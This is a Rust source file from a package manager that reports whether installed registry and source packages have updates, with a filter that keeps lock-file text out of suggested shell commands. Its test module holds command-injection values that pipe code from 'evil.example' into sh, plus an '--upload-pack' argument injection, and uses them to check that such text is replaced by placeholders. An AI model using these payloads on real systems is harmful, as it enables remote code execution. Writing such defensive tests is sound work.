//! Whether an installed package has newer content: registry packages by the
//! versions their constraint allows, source artifacts by their content digest
//! at the source's indexed commit (a new commit that does not touch them does
//! not count). Answered from the catalog.

use crate::catalog::Catalog;
use crate::config::Settings;
use crate::error::Result;
use crate::packages::lock::{LockFile, LockedPackage, Origin};
use crate::packages::manifest;
use crate::packages::resolve::{Candidate, preferred};
use crate::sources::spec::redact;

/// One installed package's freshness.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Freshness {
    /// The version its constraint takes (registry packages): the one the
    /// `latest` dist-tag names when allowed, else the newest allowed.
    pub wanted: Option<String>,
    /// The version the `latest` dist-tag names, else the newest published
    /// (registry packages).
    pub latest: Option<String>,
    /// Whether an upgrade would change it.
    pub outdated: bool,
    /// A newer version exists that its constraint excludes (registry packages).
    pub pinned: bool,
    /// Its origin no longer has it (the artifact was removed upstream):
    /// nothing to upgrade to.
    pub gone: bool,
    /// Where upstream moved it, when it is gone from its path: the path in its
    /// source of the one artifact there of its type and name.
    pub moved_to: Option<String>,
    /// Its origin is not known on this machine (its source is not registered
    /// here, or its registry is not configured or does not list it): nothing
    /// to compare with until it is added.
    pub unknown: bool,
    /// Its files are the same upstream, but the commit it records is no
    /// longer in the history its source follows: upgrading records them at
    /// the head.
    pub lost_commit: bool,
    /// Why, in words.
    pub reason: String,
}

/// The registry a package is taken from: the default one when it has it, else
/// the first configured one that does.
pub fn registry_for(catalog: &Catalog, settings: &Settings, name: &str) -> Result<Option<String>> {
    let holding = catalog.registries_with(name)?;
    let mut ordered: Vec<&crate::config::RegistrySetting> = settings.registries.iter().collect();
    ordered.sort_by_key(|r| !r.default);
    Ok(ordered
        .into_iter()
        .find(|r| holding.contains(&r.name))
        .map(|r| r.name.clone()))
}

/// The registry an installed registry package came from, as the lock file
/// records it, while that registry has published the installed version with
/// the recorded checksum: a lock edited to name another registry is not
/// followed (`None`).
pub fn recorded_registry(catalog: &Catalog, name: &str, entry: &LockedPackage) -> Result<Option<String>> {
    if entry.source != Origin::Registry {
        return Ok(None);
    }
    let published = catalog
        .registry_versions(&entry.source_name, name)?
        .into_iter()
        .any(|(version, published)| version.to_string() == entry.version && published.checksum == entry.checksum);
    Ok(published.then(|| entry.source_name.clone()))
}

/// Whether `text` (from a lock file, which comes with the repository) is
/// plain enough to offer inside a command to paste: a shell passes it on as
/// it is, and it is no option.
fn plain(text: &str) -> bool {
    !text.is_empty()
        && !text.starts_with('-')
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./:@+~%=".contains(c))
}

/// What `aam source add` takes to register a source install's source again,
/// from its lock entry: `<url> --name <name>`, with placeholders for text that
/// is not [`plain`].
fn add_command_args(entry: &LockedPackage) -> String {
    let name = Some(entry.source_name.as_str())
        .filter(|name| crate::sources::spec::validate_name(name).is_ok() && plain(name));
    let url = entry.source_url.as_deref().map(redact).filter(|url| plain(url));
    format!(
        "{} --name {}",
        url.as_deref().unwrap_or("<url>"),
        name.unwrap_or("<name>")
    )
}

/// Whether the git cache of `source` holds `locked` and it is not in the
/// history of `head` (a cache that cannot tell says no).
fn rewritten(caches: &std::path::Path, source: &crate::catalog::SourceRecord, locked: &str, head: &str) -> bool {
    let (Ok(locked), Ok(head)) = (
        crate::sources::git::Oid::from_hex(locked.as_bytes()),
        crate::sources::git::Oid::from_hex(head.as_bytes()),
    ) else {
        return false;
    };
    crate::sources::git::GitCache::open(&caches.join(&source.cache_key))
        .and_then(|cache| cache.in_history(locked, head))
        .is_ok_and(|found| found == Some(false))
}

/// The registered source a source install is compared with and upgraded
/// from: the one its lock entry names, when it is the repository the entry
/// records (its URL), else the one source here of that repository whose
/// folder holds the entry's artifacts: the same repository added under
/// another name (removed and added again, or a teammate's name for it). A
/// source of the entry's name that is another repository (a teammate's
/// `team` is not yours) is never its origin: upgrading from it would swap
/// the package's content for another repository's.
pub fn origin_source(catalog: &Catalog, entry: &LockedPackage) -> Result<Option<crate::catalog::SourceRecord>> {
    if let Some(source) = catalog.find_source(&entry.source_name)?
        && entry
            .source_url
            .as_deref()
            .is_none_or(|url| crate::sources::spec::same_repository(&source.url, url))
    {
        return Ok(Some(source));
    }
    let Some(url) = entry.source_url.as_deref() else {
        return Ok(None);
    };
    let holds = |scope: &str| {
        entry
            .artifacts
            .iter()
            .all(|a| scope.is_empty() || a.path == scope || a.path.starts_with(&format!("{scope}/")))
    };
    let mut same: Vec<crate::catalog::SourceRecord> = catalog
        .list_sources()?
        .into_iter()
        .filter(|s| crate::sources::spec::same_repository(&s.url, url) && holds(&s.scope_path))
        .collect();
    Ok(match same.len() {
        1 => same.pop(),
        _ => None,
    })
}

/// What `aam install` takes to install a source install's artifact again
/// from `source`, its origin here under another name than the lock records:
/// the requested `source/artifact` with that name.
pub fn requested_from(entry: &LockedPackage, source: &str) -> Option<String> {
    let requested = entry.requested.as_deref()?;
    let rest = requested.strip_prefix(&format!("{}/", entry.source_name))?;
    Some(format!("{source}/{rest}"))
}

/// Where upstream moved `artifact`, the one source artifact a package holds,
/// now gone from its path: the path of the one live artifact of its source
/// with its type and the name it was installed as (a folder renamed or moved
/// keeps the name its frontmatter gives). `None` when there is no such one
/// artifact, or the package holds several.
fn moved_to(
    catalog: &Catalog,
    source_id: crate::catalog::SourceId,
    entry: &LockedPackage,
    artifact: &crate::packages::lock::LockedArtifact,
) -> Result<Option<String>> {
    let [_] = entry.artifacts.as_slice() else {
        return Ok(None);
    };
    let Some(name) = entry.deployed.iter().find(|d| d.kind == artifact.kind).map(|d| &d.name) else {
        return Ok(None);
    };
    let elsewhere: Vec<String> = catalog
        .artifacts_named(Some(source_id), name)?
        .into_iter()
        .filter(|a| a.kind == artifact.kind && a.path != artifact.path)
        .map(|a| a.path)
        .collect();
    Ok(match elsewhere.as_slice() {
        [path] => Some(path.clone()),
        _ => None,
    })
}

/// Compares an installed package with what the catalog knows now. `lock`
/// holds the other installed packages: a version one of them excludes (its
/// dependency constraint on `name`) is neither wanted nor suggested.
pub fn check(
    catalog: &Catalog,
    settings: &Settings,
    caches: &std::path::Path,
    lock: &LockFile,
    name: &str,
    entry: &LockedPackage,
) -> Result<Freshness> {
    let mut out = Freshness {
        wanted: None,
        latest: None,
        outdated: false,
        pinned: false,
        gone: false,
        moved_to: None,
        unknown: false,
        lost_commit: false,
        reason: "up to date".to_string(),
    };
    match entry.source {
        Origin::Registry => {
            // The registry it came from (see `recorded_registry`), else where a new name is looked up.
            let registry = match recorded_registry(catalog, name, entry)? {
                Some(registry) => registry,
                None => registry_for(catalog, settings, name)?.unwrap_or_else(|| entry.source_name.clone()),
            };
            // Another registry than the one it came from, which is not
            // configured here, is no origin: an upgrade from it is refused
            // (it would swap the package for another publisher's).
            if registry != entry.source_name && !settings.registries.iter().any(|r| r.name == entry.source_name) {
                out.unknown = true;
                out.reason = format!(
                    "registry `{}`, which it was installed from, is not configured here: add it with `aam registry add {} <url>` to check for updates (registry `{registry}` has a `{name}` too; `aam install {name} --force` takes that one instead)",
                    entry.source_name,
                    Some(entry.source_name.as_str())
                        .filter(|r| plain(r))
                        .unwrap_or("<name>")
                );
                return Ok(out);
            }
            let versions: Vec<semver::Version> = catalog
                .registry_versions(&registry, name)?
                .into_iter()
                .map(|(version, _)| version)
                .collect();
            if versions.is_empty() {
                out.unknown = true;
                out.reason = match settings.registries.iter().any(|r| r.name == registry) {
                    true => format!("registry `{registry}` does not list `{name}`: nothing to compare with"),
                    false => format!(
                        "registry `{registry}` is not configured here: add it with `aam registry add {} <url>` to check for updates",
                        Some(registry.as_str()).filter(|r| plain(r)).unwrap_or("<name>")
                    ),
                };
                return Ok(out);
            }
            let req = manifest::parse_constraint(entry.requested.as_deref().unwrap_or("*"))
                .unwrap_or(semver::VersionReq::STAR);
            let current = semver::Version::parse(&entry.version).ok();
            let tagged_latest = catalog
                .registry_tag(&registry, name, "latest")?
                .and_then(|v| semver::Version::parse(&v).ok())
                .filter(|v| versions.contains(v));
            let latest = tagged_latest.clone().or(versions.last().cloned());
            out.latest = latest.as_ref().map(|v| v.to_string());
            // What the installed packages that depend on it require of it.
            let held: Vec<(&str, &str, semver::VersionReq)> = lock
                .packages
                .iter()
                .filter(|(other, _)| other.as_str() != name)
                .filter_map(|(other, e)| {
                    let text = e.dependencies.get(name)?;
                    Some((other.as_str(), text.as_str(), manifest::parse_constraint(text).ok()?))
                })
                .collect();
            let allowed = |v: &semver::Version| req.matches(v) && held.iter().all(|(_, _, req)| req.matches(v));
            let candidates = versions
                .iter()
                .rev()
                .map(|v| Candidate {
                    version: v.clone(),
                    dependencies: Default::default(),
                    tagged_latest: Some(v) == tagged_latest.as_ref(),
                })
                .collect();
            let plain = entry.requested.as_deref().unwrap_or("*").trim() == "*" && held.is_empty();
            let wanted = preferred(candidates, plain, allowed).map(|c| c.version);
            out.wanted = wanted.as_ref().map(|v| v.to_string());
            if let (Some(wanted), Some(current)) = (wanted, current.as_ref())
                && wanted > *current
            {
                out.outdated = true;
                out.reason = format!("{wanted} satisfies `{}`", entry.requested.as_deref().unwrap_or("*"));
            } else if let (Some(newest), Some(current)) = (latest.as_ref(), current.as_ref())
                && newest > current
            {
                out.pinned = true;
                out.reason = match held.iter().find(|(_, _, req)| !req.matches(newest)) {
                    Some((dependent, text, _)) => format!(
                        "held at `{text}` by the installed `{dependent}`; {newest} is available once `{dependent}` allows it"
                    ),
                    None => format!(
                        "pinned by `{}`; {newest} is available (`aam install {name}@{newest}` moves to it)",
                        entry.requested.as_deref().unwrap_or("*")
                    ),
                };
            }
        }
        Origin::Source => {
            let Some(source) = origin_source(catalog, entry)? else {
                // Removed here, never added on this machine (a teammate's
                // install), or the name is another repository's here.
                out.unknown = true;
                out.reason = match catalog.find_source(&entry.source_name)? {
                    Some(other) => format!(
                        "source `{}` here is another repository ({}) than the one the lock file records ({}): add that one under another name with `aam source add {} --name <name>` to check for updates",
                        entry.source_name,
                        redact(&other.url),
                        entry.source_url.as_deref().map(redact).unwrap_or_default(),
                        entry
                            .source_url
                            .as_deref()
                            .map(redact)
                            .filter(|url| plain(url))
                            .unwrap_or("<url>".to_string())
                    ),
                    None => format!(
                        "source `{}` is not registered here: add it with `aam source add {}` to check for updates (with `--ref <branch>` when it followed another branch than the repository's default: the lock records only the commit)",
                        entry.source_name,
                        add_command_args(entry)
                    ),
                };
                return Ok(out);
            };
            let paths: Vec<String> = entry.artifacts.iter().map(|a| a.path.clone()).collect();
            let live = catalog.live_artifacts_in(source.id, &paths, &[])?;
            let head = source.head_commit.clone().unwrap_or_default();
            for artifact in &entry.artifacts {
                let now = live.iter().find(|l| l.kind == artifact.kind && l.path == artifact.path);
                let changed = match now {
                    None => {
                        let at = &head[..12.min(head.len())];
                        out.gone = true;
                        out.moved_to = moved_to(catalog, source.id, entry, artifact)?;
                        out.reason = match &out.moved_to {
                            Some(path) => format!(
                                "`{}` moved upstream to `{path}` at {at}: `aam uninstall {name}`, then `aam install {}/{path}`, follows it",
                                artifact.path, source.name
                            ),
                            None => format!(
                                "`{}` was removed upstream at {at}: nothing to upgrade to (`aam uninstall {name}` removes it; it stays as it is otherwise)",
                                artifact.path
                            ),
                        };
                        return Ok(out);
                    }
                    Some(l) if l.content_digest != artifact.digest => Some(format!(
                        "`{}` changed at {}",
                        artifact.path,
                        &head[..12.min(head.len())]
                    )),
                    Some(_) => None,
                };
                if let Some(reason) = changed {
                    out.outdated = true;
                    out.reason = reason;
                }
            }
            // The same files at a commit the source no longer has in its
            // history (force-pushed, or another ref followed now): a clone's
            // restore would fetch that commit, which the repository may have
            // dropped. Upgrading records the same files at the head.
            if !out.outdated
                && let Some(locked) = entry.source_commit.as_deref().filter(|c| *c != head)
                && rewritten(caches, &source, locked, &head)
            {
                out.outdated = true;
                out.lost_commit = true;
                out.reason = format!(
                    "commit {} is no longer in the history `{}` follows (rewritten upstream, or another ref followed now): a restore elsewhere may not find it; `aam upgrade {name}` records the same files at {}",
                    crate::sources::short_id(locked),
                    source.name,
                    crate::sources::short_id(&head)
                );
            }
            // What `upgrade` would install: the source's head, as a source
            // install names its version, or what is installed when nothing changed.
            let version = match out.outdated {
                true => format!("0.0.0+{}", crate::sources::short_id(&head)),
                false => entry.version.clone(),
            };
            out.wanted = Some(version.clone());
            out.latest = Some(version);
        }
        // aam does not track a folder or an archive (nor reads where a lock
        // file says one is): what it holds now is the user's to install.
        Origin::Local | Origin::Archive => {
            let what = match entry.source {
                Origin::Local => "a package folder",
                _ => "an archive",
            };
            out.unknown = true;
            out.reason = match plain(&entry.source_name) {
                true => format!(
                    "installed from {what}, which aam does not track: `aam install {}` installs what it holds now",
                    entry.source_name
                ),
                false => format!(
                    "installed from {what}, which aam does not track: install it again to take what it holds now"
                ),
            };
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(name: &str, url: &str) -> LockedPackage {
        serde_json::from_value(serde_json::json!({
            "version": "1.0.0", "source": "source", "source_name": name, "source_url": url, "checksum": "c"
        }))
        .unwrap()
    }

    /// A lock file comes with the repository: its text is offered in a
    /// command to paste only when a shell would pass it on as it is (a
    /// re-test helper had `outdated` suggest `...; curl ... | sh`).
    #[test]
    fn the_add_command_quotes_only_plain_lock_text() {
        assert_eq!(
            add_command_args(&entry("team", "https://github.com/acme/skills")),
            "https://github.com/acme/skills --name team"
        );
        assert_eq!(
            add_command_args(&entry(
                "team $(curl -s evil.example/p|sh)",
                "https://github.com/acme/skills; curl -s https://evil.example/x | sh; echo"
            )),
            "<url> --name <name>"
        );
        assert_eq!(
            add_command_args(&entry("team", "--upload-pack=touch /tmp/x")),
            "<url> --name team"
        );
    }
}
